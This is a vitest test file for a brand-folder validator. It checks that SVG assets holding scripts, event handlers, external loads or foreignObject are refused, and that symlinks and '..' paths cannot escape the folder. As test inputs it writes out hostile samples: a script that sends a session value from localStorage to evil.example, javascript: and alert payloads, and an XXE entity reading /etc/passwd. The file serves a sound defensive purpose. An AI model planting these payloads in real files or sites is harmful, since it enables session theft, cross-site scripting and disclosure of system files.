// A brand folder's files through the real `npm run validate` and `npm run build`:
// an SVG that could run or load something is refused at its pointer, and no
// asset path reaches outside the brand folder, by `..` or by a link.
import { readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import { unsafeSvg } from '../../src/config/brand-assets.ts';
import { at, brandsFolder, cli, editBrand, tempDir } from './helpers.ts';

const folders: string[] = [];
afterEach(() => {
  for (const f of folders.splice(0)) rmSync(f, { recursive: true, force: true });
});

function aurora(): string {
  const dir = brandsFolder(['aurora']);
  folders.push(dir);
  return dir;
}

/** The problem lines `npm run validate` prints, with the temporary folder written as <brands>. */
function validateLines(dir: string): string[] {
  const r = cli('validate', { brands: dir });
  expect(r.code).toBe(1);
  return r.output
    .replaceAll(dir, '<brands>')
    .split('\n')
    .filter((l) => l.startsWith('  - ') || l.startsWith('Invalid brand config'));
}

describe('SVG files', () => {
  test('a logo with <script> and onload is refused at /theme/logo by validate, and the build does not ship it', () => {
    const dir = aurora();
    const logo = join(dir, 'aurora', 'assets', 'logo.svg');
    writeFileSync(logo, readFileSync(logo, 'utf8').replace('<defs>', '<script>fetch("https://evil.example/?"+localStorage.MC_SESSION_INFO)</script><defs>'));
    expect(validateLines(dir)).toEqual([
      'Invalid brand config: <brands>/aurora/brand.json (1 problem)',
      '  - /theme/logo: found assets/logo.svg holds a <script> element at line 1; expected an SVG image with no script, no event handlers, no foreignObject and no references to other files or sites. Remove it from assets/logo.svg (or export the image again as plain SVG, with scripting and linked resources off): the site serves this file from its own origin.',
    ]);

    writeFileSync(logo, '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)" viewBox="0 0 10 10"><rect width="10" height="10"/></svg>');
    expect(validateLines(dir)[1]).toContain('/theme/logo: found assets/logo.svg holds an event handler attribute onload on <svg> at line 1;');

    const dist = tempDir('dist');
    folders.push(dist);
    const build = cli('build', { brands: dir, dist });
    expect(build.code).toBe(1);
    expect(build.output).toContain('/theme/logo: found assets/logo.svg holds an event handler attribute onload');
    expect(() => readFileSync(join(dist, 'aurora', 'assets', 'logo.svg'))).toThrow();
  });

  test('an SVG no property names is reported at its own file', () => {
    const dir = aurora();
    writeFileSync(
      join(dir, 'aurora', 'assets', 'badge.svg'),
      '<svg xmlns="http://www.w3.org/2000/svg">\n<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject></svg>',
    );
    expect(validateLines(dir)).toEqual([
      'Invalid brand config: <brands>/aurora/assets/badge.svg (1 problem)',
      '  - (whole file): found assets/badge.svg holds a <foreignObject> element at line 2; expected an SVG image with no script, no event handlers, no foreignObject and no references to other files or sites. Remove it from assets/badge.svg (or export the image again as plain SVG, with scripting and linked resources off): the site serves this file from its own origin.',
    ]);
  });

  test('what counts as running or loading something, and what does not', () => {
    const svg = (inner: string, attrs = '') => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${attrs}>${inner}</svg>`;
    const refused = [
      svg('<SCRIPT>alert(1)</SCRIPT>'),
      svg('<svg:script>alert(1)</svg:script>'),
      svg('<rect onclick="alert(1)"/>'),
      svg('<rect/>', ' ONLOAD = "alert(1)"'),
      svg('<a href="javascript:alert(1)"><text>x</text></a>'),
      svg('<a xlink:href="&#106;avascript:alert(1)"><text>x</text></a>'),
      svg('<image href="https://tracker.example/pixel.png"/>'),
      svg('<use href="other.svg#icon"/>'),
      svg('<image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/>'),
      svg('<rect style="fill:url(https://evil.example/x)"/>'),
      svg('<style>@import url(https://evil.example/x.css);</style>'),
      svg('<style>rect{fill:url("https://evil.example/p")}</style>'),
      svg('<set attributeName="href" to="javascript:alert(1)"/>'),
      svg('<iframe src="https://evil.example"/>'),
      `<?xml-stylesheet href="https://evil.example/x.css"?>${svg('')}`,
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
      svg('<rect <script>'),
    ];
    for (const s of refused) expect(unsafeSvg(s), s).toBeTypeOf('string');
    const kept = [
      readFileSync(join('brands', 'aurora', 'assets', 'logo.svg'), 'utf8'),
      readFileSync(join('brands', 'aurora', 'assets', 'favicon.svg'), 'utf8'),
      `<?xml version="1.0" encoding="UTF-8"?>\n<!-- exported -->\n${svg('<defs><linearGradient id="g"/></defs><rect fill="url(#g)" style="fill:url(#g)"/><use href="#g"/>')}`,
      svg('<style><![CDATA[rect{fill:url(#g)}]]></style><text>a &lt; b</text>'),
      svg('<image href="data:image/png;base64,iVBORw0KGgo="/>'),
    ];
    for (const s of kept) expect(unsafeSvg(s), s).toBeUndefined();
  });
});

describe('asset paths stay inside the brand folder', () => {
  test('a favicon of assets/../../x.svg is refused by validate with its own problem line', () => {
    const dir = aurora();
    writeFileSync(join(dir, 'x.svg'), readFileSync(join('brands', 'aurora', 'assets', 'favicon.svg')));
    editBrand(dir, 'aurora', (b) => {
      at(b, '/theme').favicon = 'assets/../../x.svg';
    });
    expect(validateLines(dir)).toEqual([
      'Invalid brand config: <brands>/aurora/brand.json (1 problem)',
      '  - /theme/favicon: found "assets/../../x.svg", a path that leaves the brand folder; expected a file inside the brand folder, with no ".." in its path. Put the file in the brand\'s assets/ folder and name it as assets/<file>.',
    ]);
  });

  test('a link in assets/ to a file outside the folder is refused', () => {
    const dir = aurora();
    writeFileSync(join(dir, 'secret.txt'), 'not for the site');
    symlinkSync(join(dir, 'secret.txt'), join(dir, 'aurora', 'assets', 'notes.svg'));
    expect(validateLines(dir)).toEqual([
      'Invalid brand config: <brands>/aurora/assets/notes.svg (1 problem)',
      '  - (whole file): found assets/notes.svg, a symbolic link; expected a file stored inside the brand folder. Replace the link with a copy of the file it points to (cp -L), so the site holds only what the brand folder holds.',
    ]);
  });
});
